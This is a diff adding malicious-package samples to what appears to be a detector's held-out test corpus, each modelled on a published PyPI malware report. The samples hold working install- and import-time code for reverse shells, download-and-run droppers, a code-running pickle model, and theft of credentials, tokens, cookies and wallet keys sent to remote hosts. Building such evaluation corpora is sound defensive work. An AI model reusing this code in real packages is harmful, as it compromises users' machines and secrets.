@@ -26,6 +26,23 @@ def _hidden_line(code):
     return "__version__ = '0.4.6'" + " " * 260 + ";" + code + "\n"
 
 
+def _torch_zip(code):
+    """A PyTorch-style zip (archive/data.pkl) whose pickle calls exec(code) when loaded."""
+    import io as _io
+    import pickle
+    import zipfile as _zf
+
+    class _R:
+        def __reduce__(self):
+            return (exec, (code,))
+
+    buf = _io.BytesIO()
+    with _zf.ZipFile(buf, "w") as z:
+        z.writestr("archive/data.pkl", pickle.dumps(_R(), protocol=2))
+        z.writestr("archive/version", "3\n")
+    return buf.getvalue().decode("latin-1")
+
+
 SAMPLES = [
     # Checkmarx, "top.gg" GitHub/PyPI campaign (2024): a fake colorama whose __init__ hides a
     # fetch-and-run past the visible line with whitespace; the second stage comes from a paste host.
@@ -417,4 +434,207 @@ SAMPLES = [
      "wallet, browser and Telegram files zipped and uploaded to a file host from a thread started on import",
      "Checkmarx, CryptoAITools (2024)",
      ["credential-theft", "exfiltration", "import-time"]),
+
+    # --- third held-out batch (2026-11-30, helper "recall3"): written and committed before any
+    # detector change of that round, measured on the unchanged build first; never tuned on.
+
+    # JFrog, "pytagora"/"pytagora2" (2021): importing the package connects to a raw IP, reads a
+    # base64 blob from the socket and runs it (remote code injection).
+    ("demo-pytagora", "wheel", {"demo_pytagora/__init__.py":
+        "import socket, base64\n"
+        "def _sq():\n    try:\n        s = socket.socket()\n        s.connect(('198.51.100.141', 9009))\n"
+        "        buf = b''\n        while not buf.endswith(b'\\n'):\n            buf += s.recv(4096)\n"
+        "        exec(base64.b64decode(buf.strip()))\n    except Exception:\n        pass\n"
+        "_sq()\n"
+        "def square(x):\n    return x * x\n"},
+     "base64 code read from a raw-IP socket and executed, from a function called on import",
+     "JFrog, pytagora / pytagora2 remote code injection (2021)",
+     ["reverse-shell", "decode-run", "import-time", "download-run"]),
+
+    # JFrog, "Python malware imitates signed PyPI traffic" (2021: importantpackage, pptest): the
+    # install script sends the user and host name out in DNS labels, hex-encoded and chunked.
+    ("demo-dns-chunks", "sdist", {"setup.py":
+        "import os, socket, getpass, binascii\nfrom setuptools import setup\n"
+        "def _tell():\n    blob = binascii.hexlify(('%s|%s|%s' % (getpass.getuser(), socket.gethostname(), os.getcwd())).encode()).decode()\n"
+        "    for i in range(0, len(blob), 60):\n"
+        "        try:\n            socket.getaddrinfo('%d.%s.t.example-ns.net' % (i, blob[i:i + 60]), 80)\n"
+        "        except OSError:\n            pass\n"
+        "_tell()\nsetup(name='demo-dns-chunks', version='0.0.1')\n"},
+     "user, host and cwd hex-encoded into chunked DNS lookups at install",
+     "JFrog, importantpackage / pptest DNS exfiltration (2021)",
+     ["beacon", "exfiltration"]),
+
+    # JFrog, importantpackage (2021), second trick: the beacon is a hand-built HTTP request on a
+    # raw socket whose Host header fronts a CDN-hosted domain.
+    ("demo-fronted-post", "sdist", {"setup.py":
+        "import os, json, socket, ssl\nfrom setuptools import setup\n"
+        "body = json.dumps({k: v for k, v in os.environ.items()}).encode()\n"
+        "req = b'POST /c HTTP/1.1\\r\\nHost: x7.demo-front.example.net\\r\\nContent-Length: ' + str(len(body)).encode() + b'\\r\\n\\r\\n' + body\n"
+        "try:\n    c = ssl.create_default_context().wrap_socket(socket.create_connection(('cdn.example.com', 443)), server_hostname='cdn.example.com')\n"
+        "    c.sendall(req)\nexcept Exception:\n    pass\n"
+        "setup(name='demo-fronted-post', version='0.1')\n"},
+     "environment posted through a hand-built HTTP request on a raw TLS socket at install",
+     "JFrog, importantpackage CDN-fronted exfiltration (2021)",
+     ["exfiltration", "beacon", "credential-theft"]),
+
+    # ReversingLabs, VMConnect (2023, attributed to Lazarus): importing the package starts a loop
+    # that reports the host to a C2 server, saves the module it sends back to a file and runs it.
+    ("demo-vmconnect", "wheel", {
+        "demo_vmconnect/__init__.py": "from .hashfile import *\n",
+        "demo_vmconnect/hashfile.py": "import os, sys, time, base64, platform, subprocess, requests\n"
+        "_C2 = 'https://datahub.demo-vmc.example.net/api'\n"
+        "def _report():\n    info = {'os': platform.system(), 'node': platform.node(), 'rel': platform.release()}\n"
+        "    r = requests.post(_C2 + '/hello', data=info, timeout=10)\n    return r.text\n"
+        "def _fetch_and_run(ans):\n    mod = base64.b64decode(ans)\n"
+        "    path = os.path.join(os.path.dirname(__file__), '.hash_cache.py')\n"
+        "    with open(path, 'wb') as fh:\n        fh.write(mod)\n"
+        "    subprocess.Popen([sys.executable, path])\n"
+        "def _loop():\n    for _ in range(10):\n        ans = _report()\n        if ans:\n            _fetch_and_run(ans)\n            break\n        time.sleep(60)\n"
+        "_loop()\n"},
+     "host report to a C2, the answer decoded, written to a file and run, from a loop started on import",
+     "ReversingLabs, VMConnect (2023)",
+     ["beacon", "download-run", "exfiltration", "import-time", "decode-run"]),
+
+    # Checkmarx, packages using Cloudflare tunnels (2023: pyrologin, easytimestamp, discorder): the
+    # setup.py runs PowerShell with an -EncodedCommand that downloads a zip into AppData, unpacks
+    # and starts it.
+    ("demo-enc-ps", "sdist", {"setup.py":
+        "import subprocess\nfrom setuptools import setup\n"
+        "subprocess.Popen('powershell -NoP -W Hidden -EncodedCommand ' + '" + base64.b64encode((
+            "$p=\"$env:APPDATA\\rt\";Invoke-WebRequest -Uri 'https://files.example.net/rt.zip' -OutFile \"$p.zip\";"
+            "Expand-Archive \"$p.zip\" $p -Force;Start-Process \"$p\\svc.exe\" -WindowStyle Hidden").encode("utf-16-le")).decode() + "', shell=True)\n"
+        "setup(name='demo-enc-ps', version='1.0.0')\n"},
+     "PowerShell -EncodedCommand (UTF-16 base64) that downloads, unpacks and starts an executable at install",
+     "Checkmarx, PyPI packages abusing Cloudflare tunnels (2023)",
+     ["download-run", "decode-run", "shady-links"]),
+
+    # Sonatype, loglib-modules / pygrata / pygrata-utils (2022): AWS keys and environment read on
+    # import and sent in plain text to the attacker's endpoint (here through http.client).
+    ("demo-grata", "wheel", {"demo_grata/__init__.py":
+        "import os, json, socket, http.client\n"
+        "def _creds():\n    out = {k: v for k, v in os.environ.items() if k.startswith('AWS_')}\n"
+        "    p = os.path.expanduser('~/.aws/credentials')\n    if os.path.exists(p):\n        out['file'] = open(p).read()\n"
+        "    out['host'] = socket.gethostname()\n    return out\n"
+        "def _up():\n    c = http.client.HTTPSConnection('graph.demo-grata.example.net', timeout=5)\n"
+        "    c.request('POST', '/upload', body=json.dumps(_creds()), headers={'Content-Type': 'application/json'})\n"
+        "try:\n    _up()\nexcept Exception:\n    pass\n"},
+     "AWS keys from the environment and ~/.aws/credentials posted with http.client on import",
+     "Sonatype, loglib-modules / pygrata AWS key stealers (2022)",
+     ["credential-theft", "exfiltration", "import-time"]),
+
+    # Socket, pycord-self (2025): a Discord library look-alike whose client sends the user's token
+    # out when it logs in, and which opens a shell backdoor to a raw IP from import.
+    ("demo-pycord-self", "wheel", {"demo_pycord_self/__init__.py":
+        "import socket, subprocess, threading, requests\n"
+        "class Client:\n    def run(self, token):\n"
+        "        requests.post('http://198.51.100.66:5000/t', json={'token': token}, timeout=5)\n"
+        "        self.token = token\n"
+        "def _bd():\n    s = socket.create_connection(('198.51.100.66', 6969))\n    while True:\n"
+        "        cmd = s.recv(1024).decode()\n        if not cmd:\n            break\n"
+        "        s.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"
+        "threading.Thread(target=_bd, daemon=True).start()\n"},
+     "token sent out at login and a socket shell to a raw IP started on import",
+     "Socket, pycord-self (2025)",
+     ["credential-theft", "exfiltration", "reverse-shell", "import-time"]),
+
+    # Socket, set-utils (2025): on import it wraps the wallet library's account-creation functions
+    # so every new private key is sent out (there through a blockchain RPC call).
+    ("demo-set-utils", "wheel", {"demo_set_utils/__init__.py":
+        "import json, threading, urllib.request\nfrom eth_account import Account\n"
+        "_orig = Account.create\n"
+        "def _ship(key):\n    body = json.dumps({'jsonrpc': '2.0', 'method': 'eth_sendRawTransaction', 'params': [key.hex()], 'id': 1}).encode()\n"
+        "    urllib.request.urlopen(urllib.request.Request('https://rpc.demo-chain.example.net', data=body), timeout=5)\n"
+        "def _create(*a, **k):\n    acct = _orig(*a, **k)\n    threading.Thread(target=_ship, args=(acct.key,)).start()\n    return acct\n"
+        "Account.create = _create\n"
+        "def merge(a, b):\n    return set(a) | set(b)\n"},
+     "wallet-creation function patched on import so each new private key is sent to a remote RPC",
+     "Socket, set-utils Ethereum key stealer (2025)",
+     ["credential-theft", "exfiltration", "import-time"]),
+
+    # ReversingLabs, aliyun-ai-labs-snippets-sdk (2025): the package loads a bundled PyTorch
+    # model whose pickle runs code that collects user, host and ~/.gitconfig and sends them.
+    ("demo-model-pickle", "wheel", {
+        "demo_model_pickle/__init__.py": "import os, torch\n"
+        "_m = torch.load(os.path.join(os.path.dirname(__file__), 'model.pt'), weights_only=False)\n",
+        "demo_model_pickle/model.pt": _torch_zip(
+            "import os, getpass, socket, base64, urllib.request\n"
+            "g = open(os.path.expanduser('~/.gitconfig')).read() if os.path.exists(os.path.expanduser('~/.gitconfig')) else ''\n"
+            "urllib.request.urlopen('https://aliyun.demo-ai.example.net/u', data=base64.b64encode((getpass.getuser() + socket.gethostname() + g).encode()))\n")},
+     "bundled model whose pickle collects user, host and git config and sends them, loaded on import",
+     "ReversingLabs, aliyun-ai-labs-snippets-sdk malicious models (2025)",
+     ["non-source-payload", "exfiltration", "credential-theft", "import-time"]),
+
+    # Sonatype, crytic-compilers (2025): a look-alike of a security tool whose setup.py, on
+    # Windows, downloads an executable from a raw IP into the local app-data folder and starts it.
+    ("demo-crytic", "sdist", {"setup.py":
+        "import os, urllib.request\nfrom setuptools import setup\n"
+        "if os.name == 'nt':\n"
+        "    dst = os.path.join(os.getenv('LOCALAPPDATA'), 'Temp', 's.exe')\n"
+        "    urllib.request.urlretrieve('http://198.51.100.180/files/s.exe', dst)\n"
+        "    os.startfile(dst)\n"
+        "setup(name='demo-crytic', version='0.3.9')\n"},
+     "setup.py downloads an .exe from a raw IP into app data and starts it with os.startfile",
+     "Sonatype, crytic-compilers Lumma stealer dropper (2025)",
+     ["download-run", "shady-links"]),
+
+    # Stealer droppers hosting the next stage on a chat service's CDN (Checkmarx and Fortinet
+    # write-ups, 2022-2023): a helper downloads, a later statement starts it through the shell.
+    ("demo-cdn-stage", "wheel", {"demo_cdn_stage/__init__.py":
+        "import os, tempfile, requests\n"
+        "def _get(url, dst):\n    with open(dst, 'wb') as out:\n        out.write(requests.get(url, timeout=20).content)\n    return dst\n"
+        "_exe = _get('https://cdn.discordapp.com/attachments/1111111111/2222222222/Updater.exe',\n"
+        "            os.path.join(tempfile.gettempdir(), 'Updater.exe'))\n"
+        "os.system('start \"\" \"%s\"' % _exe)\n"},
+     "executable fetched from a chat CDN by a helper into the temp dir, started through the shell on import",
+     "Checkmarx / FortiGuard, Discord-CDN-hosted stealer stages (2022-2023)",
+     ["download-run", "shady-links", "import-time"]),
+
+    # Datadog Security Labs, fastapi-toolkit (2022): a commit added a base64 blob decoded and run
+    # on import; the decoded code adds a hidden route that runs code sent in a request header.
+    ("demo-fastapi-kit", "wheel", {"demo_fastapi_kit/__init__.py":
+        "import base64\nfrom fastapi import FastAPI\napp = FastAPI()\n"
+        "exec(base64.b64decode('" + B64(
+            "@app.get('/_health')\ndef _h(x_token: str = ''):\n    return {'r': str(eval(x_token))}\n") + "'))\n"},
+     "decoded code on import adds a route that evaluates a request header (backdoor)",
+     "Datadog Security Labs, fastapi-toolkit backdoor (2022)",
+     ["decode-run", "import-time", "reverse-shell"]),
+
+    # Checkmarx / Check Point, the March 2024 typosquat wave that paused registrations: setup.py
+    # fetches an encrypted payload, decrypts it with Fernet and runs it.
+    ("tensourflow", "sdist", {"setup.py":
+        "from setuptools import setup\nimport requests\nfrom cryptography.fernet import Fernet\n"
+        "_k = b'" + base64.urlsafe_b64encode(b"0123456789abcdef0123456789abcdef").decode() + "'\n"
+        "exec(Fernet(_k).decrypt(requests.get('https://funcaptcha.demo-paste.example.ru/paste2?package=tensourflow').content).decode())\n"
+        "setup(name='tensourflow', version='2.15.0')\n"},
+     "typosquat whose setup.py fetches a Fernet-encrypted stage, decrypts and runs it",
+     "Checkmarx and Check Point, March 2024 typosquat wave",
+     ["typosquat", "download-run", "decode-run", "shady-links"]),
+
+    # Check Point CloudGuard stealer write-ups (2023): browser cookie and key stores copied and
+    # sent to a Telegram bot as a document from import.
+    ("demo-ff-cookies", "wheel", {"demo_ff_cookies/__init__.py":
+        "import os, glob, zipfile, tempfile, requests\n"
+        "_z = os.path.join(tempfile.gettempdir(), 'c.zip')\n"
+        "with zipfile.ZipFile(_z, 'w') as z:\n"
+        "    for f in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default-release/cookies.sqlite')) + \\\n"
+        "             glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default-release/key4.db')):\n"
+        "        z.write(f)\n"
+        "requests.post('https://api.telegram.org/bot6900000000:AAE-example0000000000000000000000/sendDocument',\n"
+        "              data={'chat_id': '-1001'}, files={'document': open(_z, 'rb')})\n"},
+     "Firefox cookie and key databases zipped and sent to a Telegram bot on import",
+     "Check Point CloudGuard, PyPI stealer reports (2023)",
+     ["credential-theft", "exfiltration", "import-time"]),
+
+    # CI token stealers (StepSecurity and Socket write-ups, 2025): read the git credential store
+    # and CI tokens and send them to a request-inspection endpoint at install.
+    ("demo-ci-tokens", "sdist", {"setup.py":
+        "import os, urllib.request, urllib.parse\nfrom setuptools import setup\n"
+        "vals = {k: os.environ[k] for k in ('GITHUB_TOKEN', 'GH_TOKEN', 'CI_JOB_TOKEN', 'NPM_TOKEN') if k in os.environ}\n"
+        "gc = os.path.expanduser('~/.git-credentials')\nif os.path.isfile(gc):\n    vals['gc'] = open(gc).read()\n"
+        "try:\n    urllib.request.urlopen('https://webhook.site/6f1c1c1e-0000-4000-8000-000000000000', urllib.parse.urlencode(vals).encode(), timeout=4)\n"
+        "except Exception:\n    pass\n"
+        "setup(name='demo-ci-tokens', version='0.0.2')\n"},
+     "CI tokens and ~/.git-credentials sent to a request-inspection service at install",
+     "StepSecurity / Socket, CI token stealers (2025)",
+     ["credential-theft", "exfiltration", "shady-links"]),
 ]
